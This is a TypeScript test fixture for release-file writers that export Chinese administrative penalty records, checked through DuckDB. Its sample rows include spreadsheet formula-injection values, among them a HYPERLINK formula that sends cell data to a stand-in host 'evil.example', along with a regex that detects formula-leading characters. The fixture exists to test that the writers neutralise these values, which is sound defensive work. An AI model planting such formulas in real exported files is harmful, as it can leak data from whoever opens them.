import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import type { DatasetConfig } from '../../../../src/config/catalog.js';
import { releaseWriters } from '../../../../src/publish/files/index.js';
import type { ReleaseColumn, Row, WrittenFile } from '../../../../src/publish/release-columns.js';
import { DATASET_DEFAULTS } from '../../../support/dataset-config.js';

export const dataset: DatasetConfig = {
  ...DATASET_DEFAULTS,
  id: 'test-decisions',
  recordType: 'enforcement-decision',
  keywords: ['行政处罚', '双公示'],
};

const column = (field: string, title: string, type: ReleaseColumn['type'], labels?: Record<string, string>): ReleaseColumn => ({
  field,
  title,
  titleEn: `${field} (en)`,
  description: `${title}的说明`,
  type,
  grade: 'L1',
  ...(labels ? { labels } : {}),
});

/** One column of every type, two with Chinese labels. */
export const columns: readonly ReleaseColumn[] = [
  column('decisionNumber', '决定书文号', 'string'),
  column('partyType', '行政相对人类别', 'string', { 'legal-person': '法人及非法人组织', 'natural-person': '自然人' }),
  column('partyName', '行政相对人名称', 'string'),
  column('caseCount', '涉案次数', 'integer'),
  column('score', '评分', 'number'),
  column('fineAmount', '罚款金额（元）', 'decimal'),
  column('serious', '是否严重', 'boolean'),
  column('decisionDate', '处罚决定日期', 'date'),
  column('updatedAt', '数据更新时间', 'date-time'),
  column('penaltyTypes', '处罚类别', 'string-list', { warning: '警告', fine: '罚款', confiscation: '没收违法所得' }),
  column('procedure', '办理程序', 'object'),
];

/** Rows in codes, with the values that break naive writers: formulas, quotes, line breaks, float noise. */
export const rows: readonly Row[] = [
  {
    decisionNumber: '绍市监罚〔2025〕1号',
    partyType: 'legal-person',
    partyName: '绍兴市某某餐饮管理有限公司',
    caseCount: 1,
    score: 0.1 + 0.2,
    fineAmount: 1234.5,
    serious: true,
    decisionDate: '2025-03-06',
    updatedAt: '2025-03-06T10:00:00+08:00',
    penaltyTypes: ['warning', 'fine'],
    procedure: { hearing: true, steps: ['立案', '告知'] },
  },
  {
    decisionNumber: '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    partyType: 'natural-person',
    partyName: '+8613800138000',
    caseCount: -5,
    score: -0.5,
    fineAmount: -12.3,
    serious: false,
    decisionDate: '2024-02-29',
    updatedAt: '2024-02-29T23:59:59.123Z',
    penaltyTypes: ['confiscation'],
    procedure: [1, 2],
  },
  { decisionNumber: '-2+3', partyName: '@SUM(1,2)', caseCount: 0, score: 1e-7, fineAmount: '0.1' },
  { decisionNumber: '\t制表符开头', partyName: '张*，"某某"\r\n第二行', score: 1e21, fineAmount: 0.07 },
  { decisionNumber: '\r回车开头', partyName: '  前后有空格  ', fineAmount: '99999999999999.99' },
  { decisionNumber: '绍市监罚〔2025〕6号', fineAmount: 9999999999999.99 },
];

export const tempDir = (): string => mkdtempSync(join(tmpdir(), 'tongyuan-release-files-'));

export interface Written {
  readonly name: string;
  readonly format: string;
  readonly mediaType: string;
  readonly file: WrittenFile;
}

/** Writes `input` through every release writer into a fresh folder. */
export async function writeRelease(input: readonly Row[] = rows, dir = tempDir()): Promise<{ dir: string; files: Written[] }> {
  const writers = releaseWriters(dir, dataset, columns);
  for (const row of input) for (const writer of writers) await writer.write(row);
  const files: Written[] = [];
  for (const writer of writers) files.push({ name: writer.name, format: writer.format, mediaType: writer.mediaType, file: await writer.close() });
  return { dir, files };
}

/** Rows of one SQL query, as DuckDB's JSON-friendly values. */
export async function query(sql: string): Promise<Record<string, unknown>[]> {
  const instance = await DuckDBInstance.create(':memory:', { threads: '1' });
  try {
    const connection = await instance.connect();
    const reader = await connection.runAndReadAll(sql);
    const result = reader.getRowObjectsJson() as Record<string, unknown>[];
    connection.closeSync();
    return result;
  } finally {
    instance.closeSync();
  }
}

/** A scalar as text (numbers too), for the comparisons below. */
export const text = (value: unknown): string => (typeof value === 'string' ? value : JSON.stringify(value));

/** A value as the tests compare it, whatever file it came from; undefined when absent. */
export function canonical(col: ReleaseColumn, value: unknown): unknown {
  if (value === undefined || value === null) return undefined;
  switch (col.type) {
    case 'integer':
    case 'number':
      return Number(value);
    case 'decimal': {
      const [whole, fraction = ''] = text(value).split('.');
      return `${whole}.${fraction.padEnd(2, '0')}`;
    }
    case 'date-time':
      // DuckDB prints TIMESTAMPTZ as "2025-03-06 02:00:00+00".
      return Date.parse(text(value).replace(' ', 'T').replace(/\+00$/, 'Z'));
    case 'string-list':
      return Array.isArray(value) && value.length === 0 ? undefined : value;
    case 'object':
      return typeof value === 'string' ? JSON.parse(value) : value;
    default:
      return value;
  }
}

/** The input rows as the tests compare them: every column, absent values undefined. */
export const expectedRows = (input: readonly Row[] = rows): Record<string, unknown>[] =>
  input.map((row) => Object.fromEntries(columns.map((c) => [c.field, canonical(c, row[c.field])])));

export const FORMULA_START = /^[=+\-@\t\r]/;
